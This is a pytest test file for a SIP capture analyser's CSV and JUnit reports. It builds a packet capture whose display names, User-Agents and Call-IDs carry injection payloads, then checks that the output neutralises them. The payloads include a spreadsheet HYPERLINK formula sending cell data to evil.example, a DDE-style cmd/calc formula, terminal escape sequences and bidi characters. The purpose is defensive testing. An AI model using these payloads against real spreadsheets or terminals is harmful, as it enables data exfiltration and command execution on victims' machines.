"""`analyze --format csv` (a spreadsheet's table, formula injection neutralised) and `--format junit` (JUnit XML for
CI, control characters removed), over lab captures and a built capture whose headers attack both formats."""

from __future__ import annotations

import csv
import io
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from click.testing import CliRunner

from sipdiag.cli import cli
from sipdiag.reports.csv import CALL_COLUMNS, FINDING_COLUMNS, cell
from sipdiag.reports.junit import xml_text
from tests import pcapwriter as pw
from tests.callcapture import PBX, PBX_RTP, SDP, UA, UA_RTP, rtp_frame
from tests.conftest import SAMPLES

ESC = "\x1b]0;pwned\x07\x1b[31m"  # sets a terminal's title, then turns the text red
CALL_1 = '=HYPERLINK("http://evil.example/",",x")'
DISPLAY_1 = '=HYPERLINK("http://evil.example/?d="&A1,"click")\nsecond line' + ESC
AGENT_1 = "@SUM(1+1)*cmd|' /C calc'!A0, \"quoted\"" + ESC
CALL_2 = '+1-2,"b"\x1b[2J<x>&amp;'
# Pinned, so that rules added later do not change the counts: loss on call 1 (critical) and its low MOS (minor),
# call 2's busy answer (info), the unanswered REGISTER (critical, no call).
RULES = ("--select", "media.packet-loss", "--select", "media.low-mos", "--select", "call.failure-response",
         "--select", "reg.no-response")
MS = 10**6


def _sip(start: str, call_id: str, cseq: str, *, display: str, agent: str, to_tag: bool, branch: str,
         body: str = "") -> bytes:
    """Bytes, not text: the display name carries a bare LF inside its quoted string (a CRLF ends each line)."""
    lines = [start, f"Via: SIP/2.0/UDP {UA[0]}:5060;branch=z9hG4bK{branch}", "Max-Forwards: 70",
             f'From: "{display}" <sip:100@example.com>;tag=f1',
             f"To: <sip:200@example.com>{';tag=t1' if to_tag else ''}", f"Call-ID: {call_id}", f"CSeq: {cseq}",
             f"Contact: <sip:100@{UA[0]}:5060>", f"User-Agent: {agent}"]
    body = body.replace("\n", "\r\n")
    lines += ["Content-Type: application/sdp"] if body else []
    lines.append(f"Content-Length: {len(body.encode())}")
    return ("\r\n".join(lines) + "\r\n\r\n" + body).encode()


def _frame(data: bytes, src: tuple[str, int], dst: tuple[str, int]) -> bytes:
    return pw.sip_udp_frame(data, src=src[0], dst=dst[0], sport=src[1], dport=dst[1])


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    """Call 1 answered, 12 s of RTP (enough for a quality verdict) with every 10th packet of the caller's stream
    lost; call 2 refused 486; a REGISTER never answered. From display names, User-Agents and Call-IDs are formulas, with quotes, commas,
    a line feed and terminal escape sequences."""
    t = 1_700_000_000 * 10**9
    display = DISPLAY_1.replace('"', '\\"')  # a quoted-string escapes its quotes (RFC 3261 §25.1)
    recs = [
        (t, _frame(_sip("INVITE sip:200@example.com SIP/2.0", CALL_1, "1 INVITE", display=display, agent=AGENT_1,
                        to_tag=False, branch="a1", body=SDP.format(ip=UA[0], port=UA_RTP)), UA, PBX)),
        (t + 300 * MS, _frame(_sip("SIP/2.0 200 OK", CALL_1, "1 INVITE", display=display, agent="+PBX,1",
                                   to_tag=True, branch="a1", body=SDP.format(ip=PBX[0], port=PBX_RTP)), PBX, UA)),
        (t + 310 * MS, _frame(_sip("ACK sip:200@example.com SIP/2.0", CALL_1, "1 ACK", display=display,
                                   agent=AGENT_1, to_tag=True, branch="a2"), UA, PBX)),
    ]
    for i in range(600):
        at = t + 320 * MS + i * 20 * MS
        if i % 10:
            recs.append((at, rtp_frame((UA[0], UA_RTP), (PBX[0], PBX_RTP), 1000 + i, 0x1111)))
        recs.append((at + 5 * MS, rtp_frame((PBX[0], PBX_RTP), (UA[0], UA_RTP), 5000 + i, 0x2222)))
    t2 = t + 13000 * MS
    recs += [
        (t2, _frame(_sip("INVITE sip:200@example.com SIP/2.0", CALL_2, "1 INVITE", display="-10+20",
                         agent="\tTab UA", to_tag=False, branch="b1"), UA, PBX)),
        (t2 + 100 * MS, _frame(_sip("SIP/2.0 486 Busy Here", CALL_2, "1 INVITE", display="-10+20", agent="PBX",
                                    to_tag=True, branch="b1"), PBX, UA)),
        (t2 + 110 * MS, _frame(_sip("ACK sip:200@example.com SIP/2.0", CALL_2, "1 ACK", display="-10+20",
                                    agent="PBX", to_tag=True, branch="b1"), UA, PBX)),
    ]
    register = ("REGISTER sip:example.com SIP/2.0\nVia: SIP/2.0/UDP 198.51.100.7:5060;branch=z9hG4bKreg1\n"
                "Max-Forwards: 70\nFrom: <sip:100@example.com>;tag=r1\nTo: <sip:100@example.com>\n"
                "Call-ID: @reg-1\nCSeq: 1 REGISTER\nContact: <sip:100@198.51.100.7:5060>\nExpires: 300\n"
                "Content-Length: 0\n\n")
    for offset in (0, 0.5, 1.5, 3.5, 7.5, 11.5, 15.5, 19.5, 23.5, 27.5, 31.5):  # Timer E to Timer F, RFC 3261 §17.1.2
        recs.append((t + 14000 * MS + int(offset * 1e9), _frame(pw.sip_bytes(register), UA, PBX)))
    path = tmp_path_factory.mktemp("hostile") / "hostile.pcap"
    pw.write_pcap(path, sorted(recs, key=lambda r: r[0]), pw.LINKTYPE_ETHERNET)
    return path


def invoke(*args: str):
    return CliRunner().invoke(cli, ["analyze", *args])


def read_csv(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")  # Excel reads UTF-8 only with it
    return list(csv.reader(io.StringIO(text[1:], newline="")))


# ------------------------------------------------------------------------------------------------------------ CSV
@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\\x0d=1"), ("a=1", "a=1"), ("#1", "#1"), ("'x", "'x"), ("\x1b[31m=1", "\\x1b[31m=1"),
    ("one\ntwo", "one\ntwo"), ("bidi\u202eevil", "bidi\\u202eevil"), ("\x9b31m", "\\x9b31m"),
    ("\u061cALM\u200eLRM\u200fRLM", "\\u061cALM\\u200eLRM\\u200fRLM"),  # bidi marks, as safe.printable shows them
    ("line\u2028sep\u2029", "line\\u2028sep\\u2029"), ("zero\u200bwidth\ufeff", "zero\\u200bwidth\\ufeff"),
    (-1.5, -1.5), (0, 0), (None, ""), (True, "true"), (False, "false"),
])
def test_cell_neutralises_formulas_and_escapes(value, expected) -> None:
    assert cell(value) == expected


def test_calls_table_of_the_hostile_capture(hostile: Path) -> None:
    result = invoke(str(hostile), "--format", "csv", *RULES)
    assert result.exit_code == 1  # critical findings, --fail-on major
    assert "\x1b" not in result.output and "\x07" not in result.output
    rows = read_csv(result.output)
    assert rows[0] == list(CALL_COLUMNS)
    assert len(rows) == 3
    one, two = (dict(zip(rows[0], r)) for r in rows[1:])
    assert one["number"] == "1"
    assert one["call_id"] == "'" + CALL_1
    assert one["caller_display"] == ("'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")\nsecond line"
                                     "\\x1b]0;pwned\\x07\\x1b[31m")
    assert one["user_agents"] == "'@SUM(1+1)*cmd|' /C calc'!A0, \"quoted\"\\x1b]0;pwned\\x07\\x1b[31m | +PBX,1"
    assert (one["outcome"], one["final_status"], one["audio"], one["streams"]) == ("answered", "200", "two-way", "2")
    assert (one["findings"], one["worst_severity"], one["rules"]) == ("2", "critical", "media.packet-loss media.low-mos")
    assert (one["loss_pct_max"], one["end_reason"], one["ended_by"]) == ("9.85", "", "")
    assert two["call_id"] == "'+1-2,\"b\"\\x1b[2J<x>&amp;"
    assert (two["caller_display"], two["user_agents"]) == ("'-10+20", "Tab UA | PBX")
    assert (two["outcome"], two["final_status"], two["final_reason"]) == ("busy", "486", "Busy Here")
    assert (two["audio"], two["streams"], two["mos_min"], two["findings"], two["worst_severity"]) == (
        "not-answered", "0", "", "1", "info")
    # RFC 4180 on the wire: quotes doubled inside a quoted cell, the line feed kept inside it, CRLF between rows.
    raw = result.output
    assert '"\'=HYPERLINK(""http://evil.example/"","",x"")"' in raw
    assert '"\'=HYPERLINK(""http://evil.example/?d=""&A1,""click"")\nsecond line\\x1b]0;pwned' in raw


def test_findings_table_of_the_hostile_capture(hostile: Path) -> None:
    rows = read_csv(invoke(str(hostile), "--format", "csv", "--csv-table", "findings", *RULES).output)
    assert rows[0] == list(FINDING_COLUMNS)
    got = [dict(zip(rows[0], r)) for r in rows[1:]]
    assert [(f["severity"], f["rule"], f["call"], f["call_id"]) for f in got] == [
        ("critical", "media.packet-loss", "#1", "'" + CALL_1),
        ("critical", "reg.no-response", "", ""),
        ("minor", "media.low-mos", "#1", "'" + CALL_1),
        ("info", "call.failure-response", "#2", "'+1-2,\"b\"\\x1b[2J<x>&amp;"),
    ]
    loss = got[0]
    assert (loss["category"], loss["owner"], loss["confidence"]) == ("media", "engineering", "high")
    assert loss["frames"].split()[0].isdigit()
    assert "\"lost\": 59, " in loss["evidence"] and "\"expected\": 599, " in loss["evidence"]
    assert CALL_1 in loss["engineer_text"]
    ru = read_csv(invoke(str(hostile), "--format", "csv", "--csv-table", "findings", "--lang", "ru",
                         *RULES).output)
    assert ru[1][FINDING_COLUMNS.index("customer_text")].startswith("Часть звука вашего звонка терялась")


def test_csv_of_one_call_and_to_a_file(hostile: Path, tmp_path: Path) -> None:
    out = tmp_path / "findings.csv"
    result = invoke(str(hostile), "--format", "csv", "--csv-table", "findings", "--call", "#2", "-o", str(out),
                    *RULES)
    assert result.exit_code == 1 and result.output == ""  # the REGISTER's critical finding is capture-wide
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfseverity,rule,") and data.count(b"\r\n") == 3  # RFC 4180: CRLF rows
    rows = read_csv(data.decode("utf-8"))
    assert [(r[1], r[6]) for r in rows[1:]] == [("reg.no-response", ""), ("call.failure-response", "#2")]
    calls = read_csv(invoke(str(hostile), "--format", "csv", "--call", "#2", *RULES).output)
    assert [r[0] for r in calls] == ["number", "2"]


def test_csv_of_a_lab_capture_and_the_usage_error() -> None:
    rows = read_csv(invoke(str(SAMPLES / "rtp_loss.pcap"), "--format", "csv").output)
    row = dict(zip(rows[0], rows[1]))
    assert len(rows) == 2
    assert {k: row[k] for k in ("call_id", "caller", "outcome", "setup_ms", "answer_ms", "duration_s", "streams",
                                "mos_min", "loss_pct_max", "worst_severity")} == {
        "call_id": "rtp_loss-1@sdlab", "caller": "sip:100@203.0.113.10", "outcome": "answered", "setup_ms": "1.351",
        "answer_ms": "304.266", "duration_s": "3.508", "streams": "2", "mos_min": "3.88", "loss_pct_max": "4.67",
        "worst_severity": "major"}
    wrong = invoke(str(SAMPLES / "rtp_loss.pcap"), "--format", "json", "--csv-table", "findings")
    assert wrong.exit_code == 2
    assert wrong.output.splitlines() == ["Error: --csv-table applies to --format csv only",
                                         "Hint: Add --format csv, or leave --csv-table out."]


# ---------------------------------------------------------------------------------------------------------- JUnit
def junit(*args: str) -> tuple[ET.Element, str, int]:
    result = invoke(*args)
    assert result.output.startswith('<?xml version="1.0" encoding="UTF-8"?>\n')
    return ET.fromstring(result.output.encode("utf-8")), result.output, result.exit_code


def test_xml_text_removes_what_xml_forbids() -> None:
    assert xml_text("a\x00b\x08\x0b\x0c\x1b[31mc\x7f\x85\x9b\ud800\ufffe\uffff\u202ed\t\n\r") == "ab[31mcd\t\n\r"
    assert xml_text("bidi \u061cmarks\u200e\u200f too") == "bidi marks too"  # ALM, LRM, RLM (Trojan Source)
    assert xml_text("<b>&amp;\"'ok") == "<b>&amp;\"'ok"  # markup is ElementTree's to escape


def test_junit_of_the_hostile_capture(hostile: Path) -> None:
    root, raw, code = junit(str(hostile), "--format", "junit", *RULES)
    assert code == 1
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", raw)
    assert (root.tag, root.get("tests"), root.get("failures"), root.get("errors")) == ("testsuites", "3", "2", "0")
    (suite,) = root.findall("testsuite")
    assert {k: suite.get(k) for k in ("name", "tests", "failures", "errors", "skipped")} == {
        "name": str(hostile), "tests": "3", "failures": "2", "errors": "0", "skipped": "0"}
    assert {p.get("name"): p.get("value") for p in suite.iter("property")} == {
        "capture": str(hostile), "packets": "1157", "fail_on": "major"}
    cases = suite.findall("testcase")
    assert [(c.get("classname"), c.get("name")) for c in cases] == [
        ("hostile_pcap.calls", "call #1 " + CALL_1),
        ("hostile_pcap.calls", 'call #2 +1-2,"b"[2J<x>&amp;'),
        ("hostile_pcap.capture", "reg.no-response"),
    ]
    one, two, reg = cases
    (failure,) = one.findall("failure")
    assert failure.get("type") == "critical"
    assert failure.get("message") == "critical media.packet-loss: RTP packet loss above what the codec conceals"
    assert failure.text.startswith("[critical] media.packet-loss: RTP packet loss above what the codec conceals\n"
                                   f"call: {CALL_1}; owner: engineering; frames: ")
    assert "customer: Part of the sound of your call was lost on the way (9.8 % of it)" in failure.text
    assert one.find("system-out").text.startswith(
        "sip:100@example.com -> sip:200@example.com: answered, 200 OK\n\n[minor] media.low-mos: ")
    assert two.findall("failure") == []
    assert two.find("system-out").text.startswith(
        "sip:100@example.com -> sip:200@example.com: busy, 486 Busy Here\n\n[info] call.failure-response: ")
    (failure,) = reg.findall("failure")
    assert (failure.get("type"), failure.get("message")) == (
        "critical", "critical reg.no-response: REGISTER never answered")
    assert reg.find("system-out") is None
    # ElementTree escaped the markup in the Call-ID: it reads back as text, never as elements.
    assert 'name="call #2 +1-2,&quot;b&quot;[2J&lt;x&gt;&amp;amp;"' in raw


@pytest.mark.parametrize(("fail_on", "failures", "code"), [
    ("critical", 2, 1), ("major", 2, 1), ("minor", 2, 1), ("info", 3, 1), ("never", 0, 0)])
def test_junit_failures_follow_fail_on(hostile: Path, fail_on: str, failures: int, code: int) -> None:
    root, _, exit_code = junit(str(hostile), "--format", "junit", "--fail-on", fail_on, *RULES)
    assert (root.get("tests"), root.get("failures"), exit_code) == ("3", str(failures), code)
    assert len(root.findall("testsuite/testcase/failure")) == failures


def test_junit_in_russian_and_of_one_call(hostile: Path) -> None:
    root, _, _ = junit(str(hostile), "--format", "junit", "--lang", "ru", "--call", "#1", *RULES)
    assert [c.get("name") for c in root.iter("testcase")] == ["call #1 " + CALL_1, "reg.no-response"]
    text = root.find("testsuite/testcase/failure").text
    assert f"звонок: {CALL_1}; ответственный: engineering; кадры: " in text
    assert "клиенту: Часть звука вашего звонка терялась" in text


@pytest.mark.parametrize(("capture", "cases", "failures", "code"), [
    ("clean_call.pcap", [("clean_call_pcap.calls", "call #1 clean_call-1@sdlab", None)], 0, 0),
    ("ack_dropped.pcap", [("ack_dropped_pcap.calls", "call #1 ack_dropped-1@sdlab", "major")], 1, 1),
    ("register_wrong_password.pcap", [("register_wrong_password_pcap.capture", "reg.rejected", "critical")], 1, 1),
    # svwar's credential-less REGISTERs are enumeration (the scanner finding), not failed authentications; a
    # scan nothing of which was accepted is info (RULES.md), below --fail-on major: the case passes
    ("sipvicious_scan.pcap", [("sipvicious_scan_pcap.capture", "sec.scanner-detected", None)], 0, 0),
])
def test_junit_of_lab_captures(capture: str, cases: list, failures: int, code: int) -> None:
    rules = ("--select", "call.ack-timeout-32s", "--select", "reg.rejected", "--select", "sec.bruteforce-auth",
             "--select", "sec.scanner-detected")
    root, _, exit_code = junit(str(SAMPLES / capture), "--format", "junit", *(() if code == 0 else rules))
    got = [(c.get("classname"), c.get("name"), None if c.find("failure") is None else c.find("failure").get("type"))
           for c in root.iter("testcase")]
    assert got == cases
    assert (root.get("tests"), root.get("failures"), exit_code) == (str(len(cases)), str(failures), code)
